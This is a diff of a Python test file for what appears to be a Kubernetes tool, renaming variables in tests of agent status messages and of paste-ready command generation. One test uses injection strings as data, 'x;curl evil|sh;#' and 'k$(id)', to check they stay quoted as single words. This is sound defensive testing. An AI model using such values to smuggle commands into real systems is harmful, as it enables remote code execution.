@@ -129,14 +129,14 @@ def test_an_agent_that_is_silent_or_tells_nothing_is_told_before_what_it_last_wr
     shown = picture()
     silent = replace(shown, agent=replace(shown.agent, silent="the agent a/b has been silent for 20s: what follows"))
     dead = replace(shown, agent=replace(shown.agent, report={**TOLD, "running": False}))
-    for each, said in (
+    for seen, said in (
         (silent, "silent for 20s"),
         (dead, "the program of the agent sew-system/agent-0 reports nothing"),
     ):
-        lines = for_people(each).splitlines()
+        lines = for_people(seen).splitlines()
         assert said in lines[3]
         assert lines[4].startswith("Healthy:")
-        assert "the agent: `kubectl sew check`" in list(advice(each))
+        assert "the agent: `kubectl sew check`" in list(advice(seen))
 
 
 def test_what_waits_is_told_by_the_agent_and_nothing_older_contradicts_it() -> None:
@@ -211,8 +211,8 @@ def test_rows_that_are_none_are_left_out() -> None:
 def test_a_command_to_paste_holds_what_an_author_wrote_as_one_word() -> None:
     evil = Reference("Secret", "x;curl evil|sh;#", "k$(id)")
     seen = replace(WEBHOOK, config=(ConfigVar("url", evil),))
-    (found,) = resolve_references(seen, Held({}))
-    command = shlex.split(found.help("secrets"))
+    (resolved,) = resolve_references(seen, Held({}))
+    command = shlex.split(resolved.help("secrets"))
     assert command[5:] == ["generic", "x;curl evil|sh;#", "--from-file=k$(id)=FILE"]
 
 
